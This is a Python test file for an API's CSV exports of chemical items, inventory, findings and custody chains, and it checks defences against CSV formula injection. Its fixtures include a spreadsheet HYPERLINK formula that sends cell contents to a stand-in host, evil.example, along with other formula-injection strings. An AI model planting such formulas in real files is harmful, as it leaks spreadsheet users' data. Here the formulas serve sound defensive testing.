"""CSV exports of items, inventory, findings and custody chains: RFC 4180, a stable header,
UTF-8 (with a BOM for Excel unless asked not to), and no cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator

import pytest

from ledger.rules import Finding
from ledger.store.engine import make_engine
from ledger.store.findings import FindingStore
from tests.api._listings import Listings, problem, seed
from tests.api.live import World, world_fixture

world = world_fixture("csv", CHEMTRACE_FINDINGS="false")
ITEM_HEADER = ["code", "chemical", "chemical_name", "chemical_name_en", "cas", "un",
               "packaging", "holder", "site", "status", "quantity", "unit", "destination",
               "last_event", "last_time", "seq"]  # fmt: skip
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def listings(world: World) -> Iterator[Listings]:
    seeded = seed(world, chlorine=2, nitric=2, lab=1)
    engine = make_engine(world.server.db_url)
    try:  # a finding whose message a spreadsheet would evaluate, with quotes and a newline
        FindingStore(engine).save([Finding(
            rule="dormancy.idle", key=uuid.uuid4().hex, severity="low",
            at="2026-11-01T08:00:00Z", message=EVIL + '\nsecond "line"',
            evidence=("sha256:" + "ab" * 32, "-2+3"), org="p-chem", site=None, district="d1",
            chemical="1.1", item="@SUM(1)")])  # fmt: skip
    finally:
        engine.dispose()
    yield seeded
    seeded.http.close()


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("how", ["format", "accept"])
def test_items_as_csv(listings: Listings, how: str) -> None:
    ask = ({"params": {"format": "csv"}} if how == "format"
           else {"headers": {"Accept": "text/csv"}})  # fmt: skip
    response = listings.get("admin", "/v1/items", **ask)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert response.headers["content-disposition"] == 'attachment; filename="items.csv"'
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8, not GBK
    text = body.decode("utf-8-sig")
    assert "\r\n" in text and text.endswith("\r\n")  # RFC 4180 line ends
    table = rows(text)
    assert table[0] == ITEM_HEADER
    json_items = listings.ok("admin", "/v1/items")["items"]
    assert [r[0] for r in table[1:]] == [i["code"] for i in json_items]
    by_code = {r[0]: dict(zip(ITEM_HEADER, r, strict=True)) for r in table[1:]}
    red = by_code[listings.nitric[1]]
    assert (red["chemical_name"], red["un"], red["quantity"]) == ("硝酸", "UN2032", "40")
    assert response.headers["x-total-count"] == str(len(json_items))


def test_without_a_bom_and_json_by_default(listings: Listings) -> None:
    plain = listings.get("admin", "/v1/items", params={"format": "csv", "bom": "false"})
    assert plain.content.startswith(b'"code"')
    assert listings.get("admin", "/v1/items").headers["content-type"] == "application/json"
    prefers_json = {"Accept": "application/json, text/csv;q=0.5"}
    assert listings.get("admin", "/v1/items", headers=prefers_json).headers[
        "content-type"] == "application/json"  # fmt: skip
    problem(listings.get("admin", "/v1/items", params={"format": "xlsx"}), 422, "invalid_request")


def test_a_csv_export_without_a_limit_has_every_row(listings: Listings) -> None:
    table = rows(listings.get("admin", "/v1/items", params={"format": "csv"}).content.decode())
    assert len(table) - 1 == 5
    first = listings.get("admin", "/v1/items", params={"format": "csv", "limit": 2})
    assert len(rows(first.content.decode())) - 1 == 2 and first.headers["x-next-cursor"]


def test_inventory_and_chain_as_csv(listings: Listings) -> None:
    inventory = listings.get("reg_d2", "/v1/inventory", params={"format": "csv"})
    held = rows(inventory.content.decode("utf-8-sig"))
    assert held[0] == ITEM_HEADER
    assert {r[0] for r in held[1:]} == {listings.shipped, *listings.lab}
    chain = listings.get("admin", f"/v1/items/{listings.shipped}/events",
                         params={"format": "csv"})  # fmt: skip
    assert chain.headers["content-disposition"] == (
        f'attachment; filename="chain-{listings.shipped}.csv"')  # fmt: skip
    table = rows(chain.content.decode("utf-8-sig"))
    assert table[0][:4] == ["seq", "index", "type", "time"] and table[0][-1] == "data"
    assert [r[2] for r in table[1:]] == ["commission", "ship", "receive"]
    assert '"waybill_no":"EW-2026-0001"' in table[2][-1].replace(" ", "")


def test_findings_as_csv_are_safe_to_open(listings: Listings) -> None:
    response = listings.get("admin", "/v1/findings", params={"format": "csv"})
    table = rows(response.content.decode("utf-8-sig"))
    header, (row,) = table[0], table[1:]
    found = dict(zip(header, row, strict=True))
    # OWASP CSV injection: a leading = + - @ (or tab, CR) is prefixed with a quote
    assert found["message"] == "'" + EVIL + '\nsecond "line"'
    assert found["item"] == "'@SUM(1)"
    assert found["evidence"].endswith(";-2+3")  # not at the start of the cell: left alone
    assert found["chemical_name"] == "氯(液氯、氯气)"
    raw = response.content.decode("utf-8-sig")
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")' in raw  # quotes doubled


def test_the_header_is_stable_on_an_empty_export(listings: Listings) -> None:
    empty = listings.get("admin", "/v1/items", params={"format": "csv", "lot": "NO-SUCH-LOT"})
    assert rows(empty.content.decode("utf-8-sig")) == [ITEM_HEADER]
    none = listings.get("admin", "/v1/findings", params={"format": "csv", "severity": "high"})
    assert len(rows(none.content.decode("utf-8-sig"))) == 1


# -- the cells themselves (api.csv_export) -----------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
        ("\rx", "'\rx"), ("a=1", "a=1"), ("", ""), (None, ""), (True, "true"), (12, "12"),
        (["=a", "b"], "'=a;b"), (["a", "=b"], "a;=b"), ("氯", "氯"),
    ],
)  # fmt: skip
def test_a_cell_that_would_be_a_formula_is_neutralised(value: object, cell: str) -> None:
    from api.csv_export import cell as to_cell

    assert to_cell(value) == cell


def test_a_document_quotes_every_field_and_doubles_quotes() -> None:
    from api.csv_export import document

    text = document(["a", "b"], [['say "hi"', "x,y\r\nz"], [None, 1]], bom=False)
    assert text == '"a","b"\r\n"say ""hi""","x,y\r\nz"\r\n"","1"\r\n'
    assert document(["a"], [], bom=True) == '\ufeff"a"\r\n'
